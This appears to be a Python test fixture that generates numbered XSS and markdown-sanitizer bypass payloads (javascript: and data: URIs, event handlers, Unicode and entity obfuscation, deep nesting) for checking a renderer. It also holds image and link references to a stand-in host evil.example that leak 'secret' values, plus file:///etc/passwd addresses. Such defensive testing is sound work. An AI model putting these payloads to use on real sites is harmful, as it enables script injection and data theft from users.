# ruff: noqa: E501 - payloads stay in one piece
"""Texts that would run a script or ask a foreign host in a page that trusts them.

In the templates ``FIRE`` stands for a call of the canary ``xss`` with the payload's number, and ``HOST`` for
a host that only this payload names. Sources: OWASP's filter evasion cheat sheet, the published bypasses of
DOMPurify, ammonia and nh3, CommonMark's own edge cases.
"""

import re
from base64 import b64encode
from dataclasses import dataclass
from itertools import chain
from typing import Final

from tests.attacks.html_payloads import (
    CLOBBERING,
    FORMS,
    FRAMES,
    HANDLERS,
    NAMESPACES,
    RESOURCES,
    SCRIPTS,
    STYLES,
)

DOMAIN: Final = "evil.example"


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """``label`` stands in front of the text wherever it is put, so that it can be found again."""

    number: int
    kind: str
    text: str

    @property
    def label(self) -> str:
        return f"zpl{self.number}z"

    @property
    def labelled(self) -> str:
        return f"{self.label} {self.text}"

    @property
    def host(self) -> str:
        return f"h{self.number}.{DOMAIN}"

    @property
    def line(self) -> str:
        """In one line, as titles and names are."""
        return " ".join(self.labelled.split())


SCHEMES: Final = (
    "[x](javascript:FIRE)",
    "[x](JaVaScRiPt:FIRE)",
    "[x](<javascript:FIRE>)",
    "[x]( javascript:FIRE )",
    "[x](java&#115;cript:FIRE)",
    "[x](java&#x73;cript&colon;FIRE)",
    "[x](javascript&#58;FIRE)",
    "[x](java&Tab;script:FIRE)",
    "[x](java&NewLine;script:FIRE)",
    "[x](<java\tscript:FIRE>)",
    "[x](java%0Ascript:FIRE)",
    "[x](&#1;javascript:FIRE)",
    "[x](&#32;javascript:FIRE)",
    "[x](java\u200bscript:FIRE)",
    "[x](\u202ejavascript:FIRE)",
    "[x](javascript\\:FIRE)",
    "[x](javascript:%78ss(NUMBER))",
    "[x](javascript://www.otterfurt.example/%0aFIRE)",
    "[x](JAVASCRIPT:FIRE 'title')",
    "[x](ｊavascript:FIRE)",
    "[x](view-source:javascript:FIRE)",
    "[x](blob:javascript:FIRE)",
    "[x](data:text/html,<script>FIRE</script>)",
    "[x](data:text/html;base64,BASE64)",
    "[x](DATA:text/html;charset=utf-8,%3Cscript%3EFIRE%3C/script%3E)",
    "[x](data:image/svg+xml,<svg%20onload=FIRE>)",
    "[x](vbscript:FIRE)",
    "[x](vb&#115;cript:FIRE)",
    "[x](file://HOST/etc/passwd)",
    "[x](intent://HOST/#Intent;scheme=http;end)",
    "[x](jar:http://HOST/x!/)",
    "[x](feed:javascript:FIRE)",
    "<javascript:FIRE>",
    "<JAVASCRIPT:FIRE>",
    "<data:text/html,FIRE>",
    "<a href=javascript:FIRE>x</a>",
    "<a href='  javascript:FIRE'>x</a>",
    "<a href='&#106;&#97;vascript:FIRE'>x</a>",
    "<a href='java\nscript:FIRE'>x</a>",
    "<a href='\x01javascript:FIRE'>x</a>",
    '<a href="javascript&colon;FIRE">x</a>',
    "<a xlink:href=javascript:FIRE href=javascript:FIRE>x</a>",
    "<svg><a xlink:href=javascript:FIRE><text y=20>x</text></a></svg>",
    "<math><mi href=javascript:FIRE>x</mi></math>",
    "<area href=javascript:FIRE>",
)

MARKDOWN: Final = (
    "![x](http://HOST/i.png)",
    "![x](//HOST/i.png)",
    "![x](<http://HOST/i.png> 'title')",
    "![x](http://HOST/i.png \"t' onload='FIRE\")",
    "![x][HOST]\n\n[HOST]: http://HOST/r.png",
    "![HOST]\n\n[HOST]: http://HOST/r.png 'title'",
    "[x][HOST]\n\n[HOST]: javascript:FIRE",
    "[HOST][]\n\n[HOST]: http://HOST/l",
    "[HOST]: <javascript:FIRE> (title)\n\n[HOST]",
    "[1]: http://HOST/l\n\n[1]",
    "[![x](http://HOST/i.png)](http://HOST/l)",
    "[x](http://HOST/?q=secret)",
    "[x](//HOST/l)",
    "[x](\\\\HOST/l)",
    "[x](http:HOST/l)",
    "[x](http://www.otterfurt.example@HOST/l)",
    "[x](http://www.otterfurt.example.HOST/l)",
    "[x](http://HOST/l#:~:text=secret)",
    "[1](http://HOST/l)",
    "[[1]](http://HOST/l)",
    "<http://HOST/l>",
    "http://HOST/l www.HOST mail@HOST",
    "<someone@HOST>",
    "[x](mailto:someone@HOST?body=secret)",
    "[x](tel:+49-900-1 'FIRE')",
    "[x](sms:+49-900-1?body=HOST)",
    "[x](ftp://HOST/l) [y](ws://HOST/w)",
    '[x](http://HOST/"onmouseover="FIRE)',
    "[x](http://HOST/ \"x' onmouseover='FIRE\")",
    '[x"onmouseover="FIRE](http://HOST/)',
    "[<img src=x onerror=FIRE>](http://HOST/l)",
    "`<script>FIRE</script>` ``<img src=x onerror=FIRE>``",
    "```html\n<script>FIRE</script>\n```",
    '```"><script>FIRE</script>\ncode\n```',
    '~~~js" onload="FIRE\n<svg onload=FIRE>\n~~~',
    "    <script>FIRE</script>",
    "| <script>FIRE</script> | ![x](http://HOST/i.png) |\n|---|---|\n| [x](javascript:FIRE) | <img src=x onerror=FIRE> |",
    "- <script>FIRE</script>\n  1. ![x](http://HOST/i.png)\n     > [x](javascript:FIRE)",
    "> > > <img src=x onerror=FIRE>",
    "# <svg onload=FIRE>",
    "**<img src=x onerror=FIRE>** ~~![x](http://HOST/i.png)~~ *[x](javascript:FIRE)*",
    "\\<script>FIRE\\</script>",
    "&lt;script&gt;FIRE&lt;/script&gt;",
    "&#60;img src=x onerror=FIRE&#62;",
    "&amp;lt;script&amp;gt;FIRE&amp;lt;/script&amp;gt;",
    "<div\n\n<script>FIRE</script>\n\n</div>",
    "<p>\n\n![x](http://HOST/i.png)\n\n</p>",
    "[x](<http://HOST/a\\>b> '\"><script>FIRE</script>')",
    "$$\\href{javascript:FIRE}{x}$$ $\\unicode{<img src=x onerror=FIRE>}$",
    "```mermaid\ngraph LR; A-->B; click A 'javascript:FIRE'\n```",
)

CHARACTERS: Final = (
    "\u202e<script>FIRE</script>\u202c",
    "<\u200bscript>FIRE</script><scr\u200dipt>FIRE</scr\u200dipt>",
    "<img src=x onerror=\u2028FIRE>",
    "<script>\u2029FIRE\u2028</script>",
    "<script>x='\u2028';FIRE</script>",
    "\u2066<img src=http://HOST/i.png>\u2069",
    "<\u00adscript>FIRE</\u00adscript>![x](http://HOST/\u00ad)",
    "<" + "".join(chr(0xE0000 + ord(c)) for c in "hide") + "script>FIRE</script>",
    "＜script＞FIRE＜/script＞<img src=x onerror=FIRE>",
    "‹script›FIRE‹/script›<svg onload=FIRE>",
    "<ſcript>FIRE</ſcript><ſvg onload=FIRE><script>FIRE</script>",
    "<img src=x onerror=FIRE\x1f>",
    "<img\x0bsrc=x onerror=FIRE><img src=x onerror=FIRE>",
    "\ufeff<svg onload=FIRE>",
    "+ADw-script+AD4-FIRE+ADw-/script+AD4-<script>FIRE</script>",
    "%3Cscript%3EFIRE%3C/script%3E<img src=http://HOST/i.png>",
    "\\u003cscript\\u003eFIRE\\u003c/script\\u003e<script>FIRE</script>",
    "<scrıpt>FIRE</scrıpt><İmg src=x onerror=FIRE><img src=x onerror=FIRE>",
)

NESTING: Final = (
    "<b>" * 40 + "<img src=x onerror=FIRE>" + "</b>" * 40,
    "<div><table>" * 12 + "<script>FIRE</script>",
    "> " * 60 + "![x](http://HOST/i.png)",
    "[" * 60 + "x" + "](http://HOST/l)" * 12,
    "*" * 120 + "<img src=x onerror=FIRE>",
    "x " + "`" * 60 + "<script>FIRE</script>",
    "- " * 40 + "<svg onload=FIRE>",
)

KINDS: Final = {
    "script": SCRIPTS,
    "handler": HANDLERS,
    "frame": FRAMES,
    "resource": RESOURCES,
    "style": STYLES,
    "form": FORMS,
    "scheme": SCHEMES,
    "markdown": MARKDOWN,
    "namespace": NAMESPACES,
    "clobbering": CLOBBERING,
    "characters": CHARACTERS,
    "nesting": NESTING,
}


def _payload(number: int, kind: str, template: str) -> Payload:
    call = f"xss({number})"
    markers = {
        "FIRE": call,
        "HOST": f"h{number}.{DOMAIN}",
        "NUMBER": str(number),
        "BASE64": b64encode(f"<script>{call}</script>".encode()).decode(),
    }
    text = re.sub("|".join(markers), lambda marker: markers[marker[0]], template)
    return Payload(number=number, kind=kind, text=text)


PAYLOADS: Final = tuple(
    _payload(number, kind, template)
    for number, (kind, template) in enumerate(
        chain.from_iterable(((kind, each) for each in templates) for kind, templates in KINDS.items()), 1
    )
)

ADDRESSES: Final = tuple(
    template.replace("FIRE", f"xss({number})")
    for number, template in enumerate(
        (
            "javascript:FIRE",
            "JAVASCRIPT:FIRE",
            "\tjavascript:FIRE",
            "java\nscript:FIRE",
            "javascript://www.otterfurt.example/%0aFIRE",
            "data:text/html,<script>FIRE</script>",
            "vbscript:FIRE",
            "blob:null/FIRE",
            "file:///etc/passwd",
            'https://www.otterfurt.example/"><script>FIRE</script>',
            "https://www.otterfurt.example/' onmouseover='FIRE",
            "https://www.otterfurt.example/?a=<img src=x onerror=FIRE>",
            "https://[broken/<img src=x onerror=FIRE>",
            "",
        ),
        len(PAYLOADS) + 1,
    )
)
"""What a page may give as its own address."""
